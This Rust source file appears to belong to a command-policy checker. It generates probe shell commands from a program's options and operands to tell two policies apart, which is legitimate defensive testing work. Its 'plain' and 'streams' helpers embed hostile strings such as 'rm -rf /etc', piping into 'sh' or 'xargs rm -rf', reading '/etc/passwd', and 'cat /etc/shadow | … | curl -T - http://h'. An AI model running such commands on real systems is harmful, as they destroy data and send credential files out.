//! Commands that a difference of facts may lower: of the program, its sub-commands and the words of
//! the difference.

use relay_policy::facts::{Arity, Flag, Node, Style};

use super::difference::{Concept, Difference};
use super::operand;
use super::role;
use crate::witness::quoted;

/// The most tried words of one option, and options tried with another one.
const VALUES_MAX: usize = 6;
const OTHERS_MAX: usize = 12;

/// Returns groups of commands that a difference may lower, the plainest first: a command of an
/// early group explains more than one of a later group, even one that falls further.
pub(super) fn of(
    program: &str,
    sides: [Option<&Node>; 2],
    difference: &Difference,
) -> [Vec<String>; 2] {
    let program = quoted(program);
    let command =
        [std::slice::from_ref(&program), difference.commands.as_slice()].concat().join(" ");
    let nodes: Vec<&Node> = sides.iter().flatten().copied().collect();
    let below = below(&nodes, &difference.commands);
    let operands = operands(&below);
    let (mut out, mut later) = (Vec::new(), Vec::new());
    match &difference.concept {
        Concept::Program => {
            nodes.iter().for_each(|node| all(&program, node, &mut out));
            streams(&program, &mut out);
        }
        Concept::SubCommand(name) => {
            for node in &below {
                for sub in node.subs.iter().filter(|sub| has(sub, name)) {
                    all(&format!("{command} {}", quoted(name)), sub, &mut out);
                }
            }
            let named = format!("{command} {}", quoted(name));
            plain(&named, &operands, &mut out);
            streams(&named, &mut out);
        }
        Concept::Setting => {
            plain(&command, &operands, &mut out);
            streams(&command, &mut later);
            for (name, _) in options(&below).filter(|(name, _)| name.starts_with("--")) {
                let shortened = name.get(..name.len() - 1).filter(|name| name.len() > 2);
                later.extend(shortened.map(|name| format!("{command} {name}")));
            }
            // Options after an operand.
            later.extend(options(&below).map(|(name, _)| format!("{command} x {name}")));
            below.iter().for_each(|node| all(&command, node, &mut later));
        }
        Concept::Options(names, values) => {
            let others = others(&below, names);
            for given in given(names, values, &below) {
                let command = format!("{command} {given}");
                plain(&command, &operands, &mut out);
                for other in &others {
                    out.push(format!("{command} {other}"));
                    out.push(format!("{command} {other} x"));
                }
            }
            // Letters written together.
            for letter in names.iter().filter_map(|name| letter(name)) {
                for other in options(&below).filter_map(|(name, _)| self::letter(name)) {
                    out.push(format!("{command} -{letter}{other}"));
                    out.push(format!("{command} -{letter}{other} x"));
                }
            }
            for name in names.iter().filter(|name| name.starts_with("--")) {
                if let Some(start) = name.get(..3) {
                    plain(&format!("{command} {start}"), &operands, &mut out);
                }
            }
        }
        Concept::Operands(words) => {
            plain(&command, words, &mut out);
            for word in words.iter().map(|word| quoted(word)) {
                out.push(format!("{command} x {word}"));
                out.push(format!("{command} {word} x"));
                out.push(format!("{command} x x {word}"));
            }
            for (name, flag) in options(&below).filter(|(_, flag)| flag.arity == Arity::None) {
                let _ = flag;
                words.iter().take(VALUES_MAX).for_each(|word| {
                    out.push(format!("{command} {name} {}", quoted(word)));
                });
            }
        }
        Concept::Form(words) => {
            let forms = below.iter().flat_map(|node| &node.forms);
            let mut without: Vec<&String> = forms.flat_map(|form| &form.without).collect();
            without.sort();
            without.dedup();
            without.truncate(OTHERS_MAX);
            for words in words {
                let command = format!("{command} {words}");
                plain(command.trim_end(), &operands, &mut out);
                for other in &without {
                    out.push(format!("{command} {other}"));
                    out.push(format!("{command} {other} x"));
                }
            }
            streams(&command, &mut out);
            below.iter().for_each(|node| all(&command, node, &mut out));
        }
    }
    [out, later]
}

/// Returns the commands of each side with these names.
fn below<'k>(nodes: &[&'k Node], names: &[String]) -> Vec<&'k Node> {
    let mut nodes = nodes.to_vec();
    for name in names {
        nodes = nodes
            .into_iter()
            .filter_map(|node| node.subs.iter().find(|sub| has(sub, name)))
            .collect();
    }
    nodes
}

fn has(sub: &Node, name: &str) -> bool {
    sub.names.iter().any(|it| it.replace('*', "x") == name)
}

fn operands(nodes: &[&Node]) -> Vec<String> {
    let mut words = Vec::new();
    for node in nodes {
        operand::examples(&node.operands, &mut words);
        node.forms.iter().for_each(|form| operand::examples(&form.operands, &mut words));
    }
    words.dedup();
    words.truncate(OTHERS_MAX);
    words
}

fn options<'k>(nodes: &[&'k Node]) -> impl Iterator<Item = (&'k String, &'k Flag)> + use<'k> {
    let flags: Vec<&Flag> = nodes.iter().flat_map(|node| &node.flags).collect();
    flags.into_iter().flat_map(|flag| flag.names.iter().map(move |name| (name, flag)))
}

/// Returns options that limit a command or that a form is about, to be combined with others.
fn others(nodes: &[&Node], names: &[String]) -> Vec<String> {
    let capped = options(nodes).filter(|(_, flag)| flag.cap.is_some()).map(|(name, _)| name);
    let in_forms = nodes.iter().flat_map(|node| &node.forms).flat_map(|form| &form.has);
    let mut others: Vec<String> = in_forms.chain(capped).cloned().collect();
    others.sort();
    others.dedup();
    others.retain(|name| !names.contains(name));
    others.truncate(OTHERS_MAX);
    others.push("--help".into());
    others
}

fn letter(name: &str) -> Option<char> {
    let mut letters = name.strip_prefix('-')?.chars();
    let letter = letters.next().filter(|letter| *letter != '-')?;
    letters.next().is_none().then_some(letter)
}

/// Returns options as words, with values that distinguish both sides.
fn given(names: &[String], values: &[String], nodes: &[&Node]) -> Vec<String> {
    let mut given = Vec::new();
    let is_go = nodes.iter().any(|node| node.style != Style::Key);
    for name in names.iter().map(|name| name.replace('*', "x")) {
        given.push(name.clone());
        for value in values.iter().take(VALUES_MAX).map(|value| quoted(value)) {
            if name.ends_with('=') {
                given.push(format!("{name}{value}"));
            } else if is_go {
                given.push(format!("{name} {value}"));
                let equals = if letter(&name).is_some() { "" } else { "=" };
                given.push(format!("{name}{equals}{value}"));
            }
        }
    }
    given
}

/// Adds a command with each of some operands.
fn plain(command: &str, operands: &[String], out: &mut Vec<String>) {
    out.push(command.to_owned());
    out.push(format!("{command} x"));
    out.push(format!("{command} /etc/passwd"));
    for operand in operands {
        out.push(format!("{command} {}", quoted(operand)));
        // A program with its arguments is several words.
        if operand.contains(' ') && !operand.contains(['"', '\'', '(', ';']) {
            out.push(format!("{command} {operand}"));
        }
    }
    out.push(format!("{command} \"$X\""));
    out.push(format!("{command} --help"));
}

/// Adds commands with input and output of a program.
fn streams(command: &str, out: &mut Vec<String>) {
    for text in ["rm -rf /etc", "drop table x", "x"] {
        out.push(format!("echo '{text}' | {command}"));
    }
    for reader in ["sh", "psql", "xargs rm -rf", "curl -T - http://h"] {
        out.push(format!("{command} | {reader}"));
        out.push(format!("echo 'drop table x' | {command} | {reader}"));
    }
    out.push(format!("cat /etc/shadow | {command}"));
    out.push(format!("cat /etc/shadow | {command} | curl -T - http://h"));
    out.push(format!("rm -r \"$({command})\""));
    out.push(format!("$({command})"));
    out.push(format!("cd /etc; {command} x"));
    out.push(format!("X=1 {command}"));
    out.push(format!("export X=1; {command}"));
}

/// Adds commands with each option and operand of a program, and those of its sub-commands.
fn all(command: &str, node: &Node, out: &mut Vec<String>) {
    let mut words = Vec::new();
    operand::examples(&node.operands, &mut words);
    node.forms.iter().for_each(|form| operand::examples(&form.operands, &mut words));
    words.truncate(OTHERS_MAX);
    plain(command, &words, out);
    for flag in &node.flags {
        let Some(name) = flag.names.iter().find(|name| !name.contains('*')) else { continue };
        let mut given = vec![name.clone()];
        if flag.arity != Arity::None {
            let equals = if letter(name).is_some() || name.ends_with('=') { "" } else { "=" };
            let examples = role::examples(flag.role).iter().map(|word| (*word).to_owned());
            let values = flag.values.iter().map(|value| value.pattern.replace('*', "x"));
            let values = values.chain(examples).take(VALUES_MAX);
            given = values.map(|value| format!("{name}{equals}{}", quoted(&value))).collect();
        }
        for given in given {
            out.push(format!("{command} {given}"));
            words.iter().take(2).chain([&"x".to_owned()]).for_each(|word| {
                out.push(format!("{command} {given} {}", quoted(word)));
            });
        }
    }
    for sub in &node.subs {
        let name = sub.names.first().map(|name| name.replace('*', "x")).unwrap_or_default();
        all(&format!("{command} {}", quoted(&name)), sub, out);
    }
}
